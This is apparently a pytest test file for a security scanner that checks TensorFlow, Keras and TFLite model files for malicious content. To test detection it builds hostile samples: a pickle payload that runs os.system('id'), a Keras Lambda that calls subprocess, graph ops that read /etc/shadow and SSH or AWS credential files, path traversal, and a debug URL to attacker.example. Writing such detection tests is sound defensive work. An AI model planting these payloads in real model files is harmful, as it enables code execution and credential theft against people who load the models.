"""TensorFlow SavedModel / frozen GraphDef / Keras SavedModel metadata / TFLite support.

Fixtures in ``tests/assets/tensorflow/`` were written by TensorFlow 2.21, tf_keras and the TFLite
converter (``tests/assets/make_tensorflow.py``). Every attack class is also rebuilt here from raw
protobuf / flatbuffer bytes, so the detections are tested without TensorFlow installed. The optional
live test saves a model with the real TensorFlow at test time.
"""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
import textwrap
import zipfile
from pathlib import Path

import pytest
from _support import fl, fv

import mlvet
import mlvet.formats.tensorflow as tfmod
import mlvet.formats.tflite
from mlvet.model import FileResult, Severity, Status

ASSETS = Path(__file__).resolve().parents[1] / "assets" / "tensorflow"


# ---- protobuf building blocks come from _support; format-specific messages below -------------------------


def attr_s(key: str, *values: str) -> bytes:
    """NodeDef.attr map entry with a string (or list of strings) AttrValue."""
    if len(values) == 1:
        value = fl(2, values[0])
    else:
        value = fl(1, b"".join(fl(2, v) for v in values))
    return fl(5, fl(1, key) + fl(2, value))


def const_str(name: str, text: str) -> bytes:
    tensor = fv(1, 7) + fl(8, text)  # TensorProto{dtype=DT_STRING, string_val}
    attrs = fl(5, fl(1, "dtype") + fl(2, fv(6, 7))) + fl(5, fl(1, "value") + fl(2, fl(8, tensor)))
    return nodedef(name, "Const", attrs=attrs)


def nodedef(name: str, op: str, inputs: tuple[str, ...] = (), attrs: bytes = b"") -> bytes:
    return fl(1, name) + fl(2, op) + b"".join(fl(3, i) for i in inputs) + attrs


def graphdef(*nodes: bytes, functions: tuple[bytes, ...] = ()) -> bytes:
    out = b"".join(fl(1, n) for n in nodes)
    if functions:
        out += fl(2, b"".join(fl(1, f) for f in functions))
    return out + fl(4, fv(1, 1808))


def function(name: str, *nodes: bytes) -> bytes:
    return fl(1, fl(1, name)) + b"".join(fl(3, n) for n in nodes)


def saved_model(graph: bytes, *, assets: tuple[str, ...] = (), user_metadata: str = "") -> bytes:
    meta = fl(1, fl(4, "serve") + fl(5, "2.21.0")) + fl(2, graph)
    for a in assets:
        meta += fl(6, fl(2, a))
    if user_metadata:
        meta += fl(7, fl(1, fl(4, fl(1, "_tf_keras_layer") + fl(3, user_metadata))))
    return fv(1, 1) + fl(2, meta)


def keras_metadata(*objects: tuple[str, str]) -> bytes:
    out = b""
    for i, (path, meta) in enumerate(objects):
        body = (fv(2, i) if i else b"") + fl(3, path) + fl(4, "_tf_keras_layer") + fl(5, meta)
        out += fl(1, body)
    return out


def scan_path(path: Path | str) -> FileResult:
    report = mlvet.scan([path])
    assert len(report.results) == 1
    return report.results[0]


def write(tmp_path: Path, name: str, data: bytes) -> Path:
    p = tmp_path / name
    p.parent.mkdir(parents=True, exist_ok=True)
    p.write_bytes(data)
    return p


def findings(res: FileResult, rule: str) -> list[str]:
    return [f"{f.severity.label}: {f.message} | {f.evidence}" for f in res.findings if f.rule_id == rule]


def max_sev(res: FileResult, rule: str) -> Severity:
    return max((f.severity for f in res.findings if f.rule_id == rule), default=Severity.NONE)


# ---- benign files written by TensorFlow ------------------------------------------------------------

BENIGN = ["savedmodel_benign", "keras_savedmodel_benign", "savedmodel_asset_benign", "graphdef_benign.pb",
          "benign.tflite", "benign_with_labels.tflite", "savedmodel_text_benign", "savedmodel_module_rich",
          "keras_savedmodel_custom", "keras_savedmodel_preprocessing", "keras3_export", "flex_strings_benign.tflite"]


@pytest.mark.parametrize("name", BENIGN)
def test_benign_models_have_no_medium_finding_and_no_error(name: str) -> None:
    report = mlvet.scan([ASSETS / name])
    for res in report.results:
        assert res.status is not Status.ERROR, (res.path, res.errors)
        assert res.severity < Severity.MEDIUM, (res.path, [(f.rule_id, f.message) for f in res.findings])


def test_tf_keras_builtin_op_layers_are_not_custom_objects() -> None:
    """TFOpLambda (tf.* calls in a functional model) is tf.keras' own layer; a registered class is custom (low)."""
    pre = mlvet.scan([ASSETS / "keras_savedmodel_preprocessing"])
    assert not [f for r in pre.results for f in r.findings if f.rule_id == "TFG508"]
    custom = mlvet.scan([ASSETS / "keras_savedmodel_custom"])
    hits = [f for r in custom.results for f in r.findings if f.rule_id == "TFG508"]
    assert hits and all(f.severity is Severity.LOW for f in hits) and "acme>AddOne" in hits[0].message


def test_every_savedmodel_file_is_recognised_by_content() -> None:
    report = mlvet.scan([ASSETS / "keras_savedmodel_benign"])
    formats = {os.path.relpath(r.path, ASSETS / "keras_savedmodel_benign"): r.format for r in report.results}
    assert formats == {
        "saved_model.pb": "tf-savedmodel",
        "keras_metadata.pb": "tf-keras-metadata",
        "fingerprint.pb": "tf-fingerprint",
        os.path.join("variables", "variables.index"): "tf-checkpoint-index",
        os.path.join("variables", "variables.data-00000-of-00001"): "tf-checkpoint-data",
    }


def test_inventory_lists_graph_and_function_library_ops() -> None:
    res = scan_path(ASSETS / "savedmodel_benign" / "saved_model.pb")
    inv = next(f for f in res.findings if f.rule_id == "TFG500")
    assert "functions" in inv.message and "tags serve" in inv.message
    for op in ("SaveV2", "RestoreV2", "MergeV2Checkpoints", "Mul", "ReadVariableOp"):
        assert op in inv.evidence
    # The standard saver functions are not findings.
    assert not [f for f in res.findings if f.rule_id != "TFG500"]


# ---- attack classes (committed fixtures written by TensorFlow) ----------------------------------------

MALICIOUS = [
    ("savedmodel_file_ops/saved_model.pb", "TFG502", Severity.HIGH, "/etc/passwd"),
    ("savedmodel_pyfunc/saved_model.pb", "TFG501", Severity.HIGH, "EagerPyFunc"),
    ("savedmodel_asset_traversal/saved_model.pb", "TFG506", Severity.HIGH, "../../../../etc/passwd"),
    ("keras_savedmodel_lambda/keras_metadata.pb", "TFG507", Severity.CRITICAL, "__import__"),
    ("graphdef_file_ops.pb", "TFG502", Severity.HIGH, "/etc/shadow"),
    ("graphdef_file_ops.pb", "TFG502", Severity.HIGH, "file:///tmp/mlvet-fixture-log.txt"),
    ("graphdef_file_ops.pb", "TFG502", Severity.HIGH, "SaveV2 /etc/cron.d/job"),
    ("graphdef_custom_ops.pb", "TFG504", Severity.MEDIUM, "ExecuteShellCommand"),
    ("graphdef_custom_ops.pb", "TFG504", Severity.LOW, "MyFancyActivation"),
    ("flex_readfile.tflite", "TFG502", Severity.HIGH, "FlexReadFile"),
    ("custom_op.tflite", "TFG509", Severity.MEDIUM, "RunShellCommand"),
    ("flex_print_to_file.tflite", "TFG502", Severity.HIGH, "file:///tmp/mlvet-fixture-leak.txt"),
    ("savedmodel_text_file_ops/saved_model.pbtxt", "TFG502", Severity.HIGH, "ReadFile"),
    ("graphdef_file_ops.pbtxt", "TFG502", Severity.HIGH, "file:///tmp/mlvet-fixture-log.txt"),
]


@pytest.mark.parametrize(("name", "rule", "severity", "text"), MALICIOUS)
def test_malicious_fixture(name: str, rule: str, severity: Severity, text: str) -> None:
    res = scan_path(ASSETS / name)
    assert res.status is Status.SCANNED, res.errors
    hits = [f for f in res.findings if f.rule_id == rule and (text in f.message or text in f.evidence)]
    assert hits, [(f.rule_id, f.message, f.evidence) for f in res.findings]
    assert hits[0].severity is severity


# ---- the same classes built from bytes ------------------------------------------------------------


@pytest.mark.parametrize(("op", "rule", "severity"), [
    ("PyFunc", "TFG501", Severity.HIGH),
    ("PyFuncStateless", "TFG501", Severity.HIGH),
    ("EagerPyFunc", "TFG501", Severity.HIGH),
    ("ReadFile", "TFG502", Severity.HIGH),
    ("WriteFile", "TFG502", Severity.HIGH),
    ("MatchingFiles", "TFG502", Severity.HIGH),
    ("ImmutableConst", "TFG502", Severity.HIGH),
    ("TFRecordDataset", "TFG502", Severity.HIGH),
    ("CreateSummaryFileWriter", "TFG502", Severity.MEDIUM),
    ("RpcClient", "TFG503", Severity.HIGH),
    ("DataServiceDatasetV4", "TFG503", Severity.HIGH),
    ("_Send", "TFG503", Severity.LOW),
    ("DatasetFromGraph", "TFG505", Severity.MEDIUM),
    ("XlaCustomCallV2", "TFG505", Severity.MEDIUM),
])
def test_dangerous_op_in_function_library(tmp_path: Path, op: str, rule: str, severity: Severity) -> None:
    fn = function("__inference_serve_1", const_str("path", "/etc/passwd"), nodedef("x", op, ("path:output:0",)))
    res = scan_path(write(tmp_path, "frozen.pb", graphdef(nodedef("in", "Placeholder"), functions=(fn,))))
    assert res.format == "tf-graphdef"
    hits = findings(res, rule)
    assert hits and max_sev(res, rule) is severity, hits
    assert "__inference_serve_1" in hits[0]


def test_constant_path_is_shown_for_file_ops(tmp_path: Path) -> None:
    g = graphdef(const_str("p", "/root/.ssh/id_rsa"), nodedef("read", "ReadFile", ("p",)))
    hits = findings(scan_path(write(tmp_path, "g.pb", g)), "TFG502")
    assert hits and "/root/.ssh/id_rsa" in hits[0]


def test_checkpoint_ops_are_only_reported_for_fixed_escaping_paths(tmp_path: Path) -> None:
    standard = function(
        "__inference__traced_save_9",
        const_str("Const", "_temp/part"),
        nodedef("StringJoin", "StringJoin", ("file_prefix", "Const:output:0")),
        nodedef("SaveV2", "SaveV2", ("StringJoin:output:0",)),
        nodedef("MergeV2Checkpoints", "MergeV2Checkpoints", ("StringJoin:output:0", "file_prefix")),
        nodedef("RestoreV2", "RestoreV2", ("file_prefix",)),
    )
    tf1 = graphdef(const_str("save/Const", "model"), nodedef("save/SaveV2", "SaveV2", ("save/Const",)))
    assert not findings(scan_path(write(tmp_path, "a.pb", graphdef(nodedef("x", "NoOp"), functions=(standard,)))),
                        "TFG502")
    assert not findings(scan_path(write(tmp_path, "b.pb", tf1)), "TFG502")
    evil = graphdef(const_str("dst", "/home/user"), nodedef("m", "MergeV2Checkpoints", ("dst", "dst")))
    hits = findings(scan_path(write(tmp_path, "c.pb", evil)), "TFG502")
    assert hits and "/home/user" in hits[0]


def test_lookup_table_vocabulary_paths(tmp_path: Path) -> None:
    """TF1 exports keep the exporter's absolute vocabulary path: low; a system file: high."""
    init = "InitializeTableFromTextFileV2"
    g = graphdef(const_str("v1", "/home/alice/project/vocab.txt"), nodedef("t1", init, ("h", "v1")),
                 const_str("v2", "/etc/passwd"), nodedef("t2", init, ("h", "v2")),
                 const_str("v3", "vocab.txt"), nodedef("t3", init, ("h", "v3")))
    res = scan_path(write(tmp_path, "g.pb", g))
    sev = {f.evidence.split()[-1]: f.severity for f in res.findings if f.rule_id == "TFG502"}
    assert sev == {"/home/alice/project/vocab.txt": Severity.LOW, "/etc/passwd": Severity.HIGH}


def test_printv2_and_debug_urls(tmp_path: Path) -> None:
    g = graphdef(
        nodedef("p1", "PrintV2", attrs=attr_s("output_stream", "stderr")),
        nodedef("p2", "PrintV2", attrs=attr_s("output_stream", "file:///home/u/.profile")),
        nodedef("d", "DebugIdentityV2", attrs=attr_s("debug_urls", "grpc://attacker.example:6064", "file:///tmp/d")),
    )
    res = scan_path(write(tmp_path, "g.pb", g))
    assert any("/home/u/.profile" in h for h in findings(res, "TFG502"))
    assert any("grpc://attacker.example" in h for h in findings(res, "TFG503"))
    assert not any("stderr" in h for h in findings(res, "TFG502"))


def test_custom_ops_low_and_suspicious_names_medium(tmp_path: Path) -> None:
    g = graphdef(nodedef("a", "Addons>GeluGrad"), nodedef("b", "DownloadAndRun"), nodedef("c", "MatMul"))
    res = scan_path(write(tmp_path, "g.pb", g))
    sev = {f.evidence: f.severity for f in res.findings if f.rule_id == "TFG504"}
    assert sev == {"Addons>GeluGrad": Severity.LOW, "DownloadAndRun": Severity.MEDIUM}


def test_savedmodel_from_bytes_asset_traversal_and_legacy_user_object_metadata(tmp_path: Path) -> None:
    lam = {"class_name": "Lambda", "config": {"name": "l", "function": ["4wEAAAAAAAAA", None, None],
                                              "function_type": "lambda", "module": "__main__"}}
    data = saved_model(graphdef(nodedef("x", "NoOp")), assets=("vocab.txt", "/etc/passwd"),
                       user_metadata=json.dumps(lam))
    res = scan_path(write(tmp_path, "saved_model.pb", data))
    assert res.format == "tf-savedmodel"
    assert [h for h in findings(res, "TFG506") if "/etc/passwd" in h] and len(findings(res, "TFG506")) == 1
    assert max_sev(res, "TFG507") is Severity.HIGH


def test_keras_metadata_from_bytes(tmp_path: Path) -> None:
    import base64
    import marshal

    # Real marshalled code (the static reader decodes it; the old regex over raw bytes is gone).
    bytecode = marshal.dumps(compile("lambda x: __import__('subprocess').check_output(['id'])", "<l>", "eval"))
    code = base64.b64encode(bytecode).decode()
    lam = {"class_name": "Lambda", "config": {"name": "evil", "function": {"class_name": "__tuple__",
           "items": [code, None, None]}, "function_type": "lambda", "module": "__main__"}}
    named = {"class_name": "Lambda", "config": {"name": "named", "function": "system", "function_type": "function",
                                                "module": "os"}}
    custom = {"class_name": "MyAttention", "config": {}}
    model = {"class_name": "Functional", "config": {"layers": [lam, named, custom]}}
    data = keras_metadata(("root", json.dumps(model)), ("root.layer-1", json.dumps(lam)))
    res = scan_path(write(tmp_path, "keras_metadata.pb", data))
    assert res.format == "tf-keras-metadata"
    lambdas = [f for f in res.findings if f.rule_id == "TFG507"]
    assert len(lambdas) == 2  # each Lambda once, although the network config repeats it
    assert {f.severity for f in lambdas} == {Severity.CRITICAL}
    assert any("__import__" in f.message and "check_output" in f.evidence for f in lambdas)
    assert res.status is Status.SCANNED  # decoded in full: no analysis fault
    assert any("MyAttention" in h for h in findings(res, "TFG508"))


def test_text_format_savedmodel_from_bytes(tmp_path: Path) -> None:
    text = textwrap.dedent("""\
        saved_model_schema_version: 1
        meta_graphs {
          graph_def {
            node {
              name: "cb"
              op: "PyFunc"
              attr { key: "token" value { s: "pyfunc_0" } }
            }
            node { name: "x" op: "NotARealOp" }
          }
          asset_file_def { filename: "../../../home/user/.aws/credentials" }
        }
        """)
    res = scan_path(write(tmp_path, "saved_model.pbtxt", text.encode()))
    assert res.format == "tf-text"
    assert max_sev(res, "TFG501") is Severity.HIGH
    assert max_sev(res, "TFG506") is Severity.HIGH
    assert max_sev(res, "TFG504") is Severity.LOW
    plain = scan_path(write(tmp_path, "notes.txt", b"node is a word; op: 'x'\n"))
    assert plain.format != "tf-text"


# ---- SavedModel folder pieces ---------------------------------------------------------------------------


def test_checkpoint_shard_without_index_is_an_error(tmp_path: Path) -> None:
    src = ASSETS / "savedmodel_benign" / "variables"
    shutil.copy(src / "variables.data-00000-of-00001", tmp_path / "variables.data-00000-of-00001")
    res = scan_path(tmp_path / "variables.data-00000-of-00001")
    assert res.status is Status.ERROR and "without its index" in res.errors[0]
    shutil.copy(src / "variables.index", tmp_path / "variables.index")
    assert scan_path(tmp_path / "variables.data-00000-of-00001").status is Status.SKIPPED


def test_float_data_that_resembles_protocol_1_pickle_is_still_a_shard(tmp_path: Path) -> None:
    """Float bits starting with 'T' read as a BINSTRING opcode; the shard must not become a pickle error."""
    shutil.copy(ASSETS / "savedmodel_benign" / "variables" / "variables.index", tmp_path / "variables.index")
    res = scan_path(write(tmp_path, "variables.data-00000-of-00001", b"TM\xd6>0\xbfN>" + b"\x00" * 64))
    assert res.format == "tf-checkpoint-data" and res.status is Status.SKIPPED, res.errors


def test_pickle_named_like_a_checkpoint_shard_is_still_a_pickle(tmp_path: Path) -> None:
    shutil.copy(ASSETS / "savedmodel_benign" / "variables" / "variables.index", tmp_path / "variables.index")
    payload = b"\x80\x02cos\nsystem\nX\x02\x00\x00\x00id\x85R."  # os.system('id'), protocol 2
    res = scan_path(write(tmp_path, "variables.data-00000-of-00001", payload))
    assert res.format == "pickle" and res.severity >= Severity.HIGH


def test_zipped_savedmodel_is_scanned_member_by_member(tmp_path: Path) -> None:
    z = tmp_path / "model.zip"
    with zipfile.ZipFile(z, "w") as zf:
        for p in (ASSETS / "savedmodel_file_ops").rglob("*"):
            if p.is_file():
                zf.write(p, p.relative_to(ASSETS))
    res = scan_path(z)
    assert max_sev(res, "TFG502") is Severity.HIGH
    assert res.status is Status.SCANNED, res.errors  # shards are attributed to the index beside them


def test_zipped_shard_without_index_is_not_silently_accepted(tmp_path: Path) -> None:
    z = tmp_path / "model.zip"
    with zipfile.ZipFile(z, "w") as zf:
        zf.write(ASSETS / "savedmodel_benign" / "variables" / "variables.data-00000-of-00001",
                 "variables/variables.data-00000-of-00001")
    assert scan_path(z).status is Status.ERROR


# ---- TFLite ---------------------------------------------------------------------------------------------


def _patched_tflite(old: bytes, new: bytes) -> bytes:
    data = (ASSETS / "flex_readfile.tflite").read_bytes()
    assert data.count(old) == 1 and len(old) == len(new)
    return data.replace(old, new)


@pytest.mark.parametrize(("custom", "rule", "severity"), [
    (b"FlexPyFunc", "TFG501", Severity.HIGH),
    (b"FlexWriteFi", "TFG504", Severity.LOW),  # not a TF op: reported as unknown Flex op
    (b"FlexRpcCall", "TFG503", Severity.HIGH),
])
def test_flex_ops_are_classified_as_tensorflow_ops(
    tmp_path: Path, custom: bytes, rule: str, severity: Severity
) -> None:
    new = len(custom).to_bytes(4, "little") + custom + b"\0" * (12 - len(custom))
    data = _patched_tflite(b"\x0c\x00\x00\x00FlexReadFile", new)
    res = scan_path(write(tmp_path, "m.tflite", data))
    assert res.format == "tflite" and max_sev(res, rule) is severity, res.findings


def test_tflite_appended_zip_members_are_scanned(tmp_path: Path) -> None:
    p = write(tmp_path, "m.tflite", (ASSETS / "benign.tflite").read_bytes())
    payload = b"\x80\x02cos\nsystem\nX\x02\x00\x00\x00id\x85R."  # os.system('id'), protocol 2
    with zipfile.ZipFile(p, "a") as zf:
        zf.writestr("labels.txt", "a\nb\n")
        zf.writestr("extra.pkl", payload)
    res = scan_path(p)
    assert res.format == "tflite"
    assert any(f.rule_id.startswith("PKL") and f.severity >= Severity.HIGH for f in res.findings)
    assert not [f for f in res.findings if f.rule_id == "ARC300"]


def _tflite_cases() -> dict[str, bytes]:
    good = (ASSETS / "benign.tflite").read_bytes()
    root = int.from_bytes(good[:4], "little")
    vt = root - int.from_bytes(good[root : root + 4], "little", signed=True)
    bad_vtable = bytearray(good)
    bad_vtable[root : root + 4] = (-(1 << 30)).to_bytes(4, "little", signed=True)
    codes_field = vt + 4 + 2 * 1
    codes_at = root + int.from_bytes(good[codes_field : codes_field + 2], "little")
    bad_vector = bytearray(good)
    bad_vector[codes_at : codes_at + 4] = (len(good) * 4).to_bytes(4, "little")
    huge_len = bytearray(good)
    vec = codes_at + int.from_bytes(good[codes_at : codes_at + 4], "little")
    huge_len[vec : vec + 4] = (0xFFFFFFF).to_bytes(4, "little")
    return {
        "truncated": good[: root + 8],
        "vtable outside the file": bytes(bad_vtable),
        "offset past the end": bytes(bad_vector),
        "vector too long": bytes(huge_len),
    }


@pytest.mark.parametrize("case", list(_tflite_cases()))
def test_malformed_tflite_is_an_error(tmp_path: Path, case: str) -> None:
    res = scan_path(write(tmp_path, "bad.tflite", _tflite_cases()[case]))
    assert res.format == "tflite"
    assert res.status is Status.ERROR
    assert any("malformed TFLite model" in e for e in res.errors), res.errors


# ---- malformed protobuf and sniffing -----------------------------------------------------------------


@pytest.mark.parametrize(("name", "data", "fmt"), [
    ("truncated graph", graphdef(nodedef("a", "ReadFile"), nodedef("b", "MatMul"))[:-9], "tf-graphdef"),
    ("length past end", fl(1, nodedef("a", "MatMul"))[:-3] + b"", "tf-graphdef"),
    ("varint overflow", fl(1, nodedef("a", "MatMul")) + b"\x0a" + b"\xff" * 11, "tf-graphdef"),
    ("truncated savedmodel", saved_model(graphdef(nodedef("a", "MatMul")))[:-4], "tf-savedmodel"),
])
def test_malformed_protobuf_is_an_error(tmp_path: Path, name: str, data: bytes, fmt: str) -> None:
    res = scan_path(write(tmp_path, "bad.pb", data))
    assert res.format == fmt, name
    assert res.status is Status.ERROR
    assert any("malformed TensorFlow" in e for e in res.errors), res.errors


def test_truncated_real_savedmodel_is_an_error(tmp_path: Path) -> None:
    data = (ASSETS / "savedmodel_benign" / "saved_model.pb").read_bytes()
    res = scan_path(write(tmp_path, "saved_model.pb", data[: len(data) // 2]))
    assert res.status is Status.ERROR and "malformed TensorFlow SavedModel" in res.errors[0]


def test_random_bytes_and_text_are_not_claimed() -> None:
    import random

    rng = random.Random(99)
    for i in range(200):
        blob = bytes(rng.randrange(256) for _ in range(1024))
        assert not tfmod.looks_like_graphdef(blob), i
        assert not tfmod.looks_like_saved_model(blob), i
        assert not tfmod.looks_like_keras_metadata(blob), i
        assert not tfmod.looks_like_fingerprint(blob, len(blob)), i
    for text in (b"node {\n  name: 'x'\n  op: 'ReadFile'\n}\n", b"hello world\n" * 10):
        assert not tfmod.looks_like_graphdef(text)


def test_onnx_and_tensorflow_sniffers_do_not_overlap() -> None:
    import mlvet.formats.onnx as onnxmod

    onnx_assets = ASSETS.parent / "onnx"
    for p in [*onnx_assets.glob("*.onnx"), *(onnx_assets / "torch_dynamo").glob("*.onnx")]:
        head = p.read_bytes()[:4096]
        assert not tfmod.looks_like_graphdef(head) and not tfmod.looks_like_saved_model(head), p
    for p in ASSETS.rglob("*.pb"):
        assert not onnxmod.looks_like_onnx(p.read_bytes()[:4096]), p


def test_large_frozen_constants_are_skipped(tmp_path: Path) -> None:
    """Const tensor_content (frozen weights) is skipped by offset: 64 MiB of it costs nothing."""
    import time
    import tracemalloc

    tensor = fv(1, 1) + fl(4, b"\0" * (64 << 20))
    big = nodedef("w", "Const", attrs=fl(5, fl(1, "value") + fl(2, fl(8, tensor))))
    p = write(tmp_path, "frozen.pb", graphdef(big, nodedef("r", "ReadFile", ("w",))))
    tracemalloc.start()
    t0 = time.perf_counter()
    res = scan_path(p)
    elapsed = time.perf_counter() - t0
    _, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert max_sev(res, "TFG502") is Severity.HIGH
    assert elapsed < 3 and peak < 16 << 20, (elapsed, peak)


# ---- live: a model saved by the real TensorFlow at test time ------------------------------------------


@pytest.mark.slow
def test_live_tensorflow_savedmodel_with_read_file(tmp_path: Path) -> None:
    pytest.importorskip("tensorflow")
    script = textwrap.dedent(f"""
        import os
        os.environ["TF_CPP_MIN_LOG_LEVEL"] = "3"
        import tensorflow as tf
        class M(tf.Module):
            @tf.function(input_signature=[tf.TensorSpec([], tf.string)])
            def serve(self, x):
                return tf.strings.join([x, tf.io.read_file("/etc/hostname")])
        tf.saved_model.save(M(), {str(tmp_path / "sm")!r})
    """)
    subprocess.run([sys.executable, "-c", script], check=True, capture_output=True, timeout=300)
    report = mlvet.scan([tmp_path / "sm"])
    assert not report.incomplete
    sm = next(r for r in report.results if r.path.endswith("saved_model.pb"))
    assert any("/etc/hostname" in f.message for f in sm.findings if f.rule_id == "TFG502")


def test_standard_op_list_is_loaded() -> None:
    ops = tfmod.standard_ops()
    assert {"MatMul", "ReadFile", "SaveV2", "PyFunc", "_Send"} <= ops
    assert len(ops) > 1500


@pytest.mark.parametrize("name", ["savedmodel_benign/saved_model.pb", "keras_savedmodel_lambda/keras_metadata.pb",
                                  "graphdef_file_ops.pb", "flex_readfile.tflite", "savedmodel_benign/fingerprint.pb",
                                  "savedmodel_benign/variables/variables.index", "graphdef_file_ops.pbtxt"])
def test_byte_flips_and_truncations_never_crash(tmp_path: Path, name: str) -> None:
    import random

    rng = random.Random(name)
    data = (ASSETS / name).read_bytes()
    for k in range(40):
        b = bytearray(data)
        if k < 30:
            for _ in range(rng.randint(1, 4)):
                b[rng.randrange(len(b))] = rng.randrange(256)
        else:
            b = b[: rng.randrange(len(b))]
        res = scan_path(write(tmp_path, Path(name).name, bytes(b)))
        assert res.status in (Status.SCANNED, Status.SKIPPED, Status.ERROR)
        assert not any("internal error" in e for e in res.errors), (k, res.errors)
        if res.status is Status.ERROR:
            assert res.errors
